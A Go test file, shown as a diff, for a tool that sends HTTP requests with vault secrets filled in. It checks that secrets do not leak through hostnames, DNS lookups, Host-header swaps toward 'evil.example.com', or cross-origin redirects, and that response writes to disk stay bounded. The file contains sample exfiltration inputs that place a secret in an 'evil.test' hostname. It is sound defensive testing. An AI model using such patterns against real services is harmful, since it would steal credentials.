@@ -1,0 +1,223 @@
+package request_test
+
+import (
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"github.com/vault-lsp/vault-lsp/env"
+	"github.com/vault-lsp/vault-lsp/parser"
+	"github.com/vault-lsp/vault-lsp/request"
+)
+
+// privatePlan is the first request of src, with a private environment file.
+func (w *world) privatePlan(src, private string) *request.Plan {
+	w.Helper()
+	envs := env.Load(fstest.MapFS{"http-client.private.env.json": {Data: []byte(private)}}, ".")
+	file := parser.Parse(src)
+	plan, problems := request.Build(file, file.Blocks[0].Request, env.NewScope(file, envs, "", nil), w.sources())
+	if plan == nil {
+		w.Fatalf("Build(%q): %+v", src, problems)
+	}
+	return plan
+}
+
+// TestThreatSecretAsHostIsNotRemembered: a value that is only a part of the
+// host must neither be shown in the question nor written to the permissions.
+func TestThreatSecretAsHostIsNotRemembered(t *testing.T) {
+	t.Parallel()
+	for _, target := range []string{
+		"{{$vault path=app/token key=t}}.evil.test:443/x",
+		"{{$vault path=app/token key=t}}:443/x",
+		"{{$vault path=app/token key=t}}evil.test/x",
+		"https://{{$vault path=app/token key=t}}.evil.test/x",
+	} {
+		t.Run(target, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			w.vault.values[plainRef] = plainValue
+			w.answer = request.Always
+			_, problem := w.send("GET " + target + "\n")
+			if problem == nil {
+				t.Fatal("it was sent")
+			}
+			text := problem.Message + problem.Hint
+			for _, q := range w.asked {
+				text += q.Origin
+			}
+			if strings.Contains(text, plainValue) {
+				t.Errorf("it shows %s", text)
+			}
+			if rules, err := w.store.List(); err != nil || len(rules) > 0 {
+				t.Errorf("rules %v, %v", rules, err)
+			}
+		})
+	}
+}
+
+// TestThreatSecretAsHostIsNotLookedUp: to ask a name server for a name is to
+// tell it.
+func TestThreatSecretAsHostIsNotLookedUp(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.vault.values[plainRef] = plainValue
+	lookup := w.opts.LookupIP
+	w.opts.LookupIP = func(ctx ctx, host string) ([]netipAddr, error) {
+		if strings.Contains(host, plainValue) {
+			t.Errorf("looked up %s", host)
+		}
+		return lookup(ctx, host)
+	}
+	if _, problem := w.send("GET http://{{$vault path=app/token key=t}}.localhost/\n"); problem == nil || problem.Code != request.CodePlainHTTP {
+		t.Errorf("%+v", problem)
+	}
+}
+
+// TestThreatHostHeaderNamesAnotherSite: one address serves many sites, so who
+// gets the secret is who the Host header names.
+func TestThreatHostHeaderNamesAnotherSite(t *testing.T) {
+	t.Parallel()
+	const src = "GET https://good.example.com/\nHost: evil.example.com\nAuthorization: Bearer {{$vault path=app/token key=t}}\n"
+	start := func(t *testing.T) (*world, *recorder) {
+		w := newWorld(t)
+		w.vault.values[plainRef] = plainValue
+		server := w.serve(true, nil)
+		w.hosts["good.example.com:443"] = server.addr()
+		return w, server
+	}
+	allow := func(w *world, origins ...string) request.Call {
+		call := w.call()
+		call.Ask, call.AllowOrigins = nil, origins
+		return call
+	}
+	t.Run("only the address is allowed", func(t *testing.T) {
+		t.Parallel()
+		w, server := start(t)
+		_, problem := w.sendWith(w.plan(src), allow(w, "https://good.example.com"))
+		if problem == nil || problem.Code != request.CodeDenied || !strings.Contains(problem.Message, "https://evil.example.com") {
+			t.Errorf("%+v", problem)
+		}
+		if len(server.requests()) > 0 || len(w.vault.fetched) > 0 {
+			t.Errorf("sent %v, fetched %v", server.requests(), w.vault.fetched)
+		}
+	})
+	t.Run("both are allowed", func(t *testing.T) {
+		t.Parallel()
+		w, server := start(t)
+		if _, problem := w.sendWith(w.plan(src), allow(w, "https://good.example.com", "https://evil.example.com")); problem != nil {
+			t.Fatalf("%+v", problem)
+		}
+		if got := server.last(t); got.Host != "evil.example.com" {
+			t.Errorf("Host %q", got.Host)
+		}
+	})
+	t.Run("loopback serves any name", func(t *testing.T) {
+		t.Parallel()
+		w, _ := start(t)
+		server := w.serve(false, nil)
+		if _, problem := w.sendWith(w.plan(strings.Replace(src, "https://good.example.com", server.URL, 1)), allow(w)); problem != nil {
+			t.Errorf("%+v", problem)
+		}
+	})
+	t.Run("the same host", func(t *testing.T) {
+		t.Parallel()
+		w, _ := start(t)
+		if _, problem := w.sendWith(w.plan(strings.Replace(src, "evil.", "GOOD.", 1)), allow(w, "https://good.example.com")); problem != nil {
+			t.Errorf("%+v", problem)
+		}
+	})
+}
+
+// TestThreatRedirectCarriesPrivateText: text of a private environment file is
+// a secret too, and a redirect does not take it to another origin.
+func TestThreatRedirectCarriesPrivateText(t *testing.T) {
+	t.Parallel()
+	const private = `{"$shared":{"apiKey":"PrivateMarker-99"}}`
+	start := func(t *testing.T) (w *world, server, other *recorder) {
+		w = newWorld(t)
+		other = w.serve(false, nil)
+		w.hosts["other.example.com:80"] = other.addr()
+		server = w.serve(false, redirectTo(http.StatusTemporaryRedirect, "http://other.example.com/"))
+		return w, server, other
+	}
+	t.Run("header", func(t *testing.T) {
+		t.Parallel()
+		w, server, other := start(t)
+		response, problem := w.sendWith(w.privatePlan("GET "+server.URL+"/\nX-Api-Key: {{apiKey}}\nX-Kept: yes\n", private), w.call())
+		if problem != nil {
+			t.Fatalf("%+v", problem)
+		}
+		if got := other.last(t); got.holds("PrivateMarker-99") || got.Header.Get("X-Kept") != "yes" {
+			t.Errorf("the other server got %+v", got)
+		}
+		if d := response.Redirects[0].Dropped; len(d) != 1 || d[0] != "X-Api-Key" {
+			t.Errorf("dropped %q", d)
+		}
+	})
+	t.Run("body", func(t *testing.T) {
+		t.Parallel()
+		w, server, other := start(t)
+		_, problem := w.sendWith(w.privatePlan("POST "+server.URL+"/\n\nkey={{apiKey}}\n", private), w.call())
+		if problem == nil || problem.Code != request.CodeDenied {
+			t.Errorf("%+v", problem)
+		}
+		if len(other.requests()) > 0 {
+			t.Errorf("the other server got %+v", other.requests())
+		}
+	})
+}
+
+// TestThreatRedirectHostInUpperCase: host names lose their case, and a value in
+// one is still not shown.
+func TestThreatRedirectHostInUpperCase(t *testing.T) {
+	t.Parallel()
+	const value = "Mixed-Case-Token-77"
+	w := newWorld(t)
+	w.vault.values[plainRef] = value
+	w.answer = request.Always
+	server := w.serve(false, redirectTo(http.StatusFound, "https://"+value+".evil.test/"))
+	_, problem := w.send(get(server.URL))
+	if problem == nil {
+		t.Fatal("it was followed")
+	}
+	text := problem.Message + problem.Hint
+	for _, q := range w.asked {
+		text += q.Origin
+	}
+	if strings.Contains(strings.ToLower(text), strings.ToLower(value)) {
+		t.Errorf("shown: %s", text)
+	}
+	if rules, _ := w.store.List(); len(rules) > 0 {
+		t.Errorf("remembered: %v", rules)
+	}
+}
+
+// TestThreatLargeBodiesFillTheDisk: what a server makes us write is bounded in
+// all, not only for each response.
+func TestThreatLargeBodiesFillTheDisk(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.opts.MaxBodySize, w.opts.MaxFileSize = 10, 1000
+	server := w.serve(false, func(rw http.ResponseWriter, _ *http.Request) { _, _ = rw.Write(make([]byte, 5000)) })
+	for range 10 {
+		w.mustSend("GET " + server.URL)
+	}
+	entries, err := os.ReadDir(filepath.Join(w.opts.StateDir, "responses"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var total int64
+	for _, e := range entries {
+		info, err := e.Info()
+		if err != nil {
+			t.Fatal(err)
+		}
+		total += info.Size()
+	}
+	if total > 2*w.opts.MaxFileSize {
+		t.Errorf("%d files with %d bytes", len(entries), total)
+	}
+}
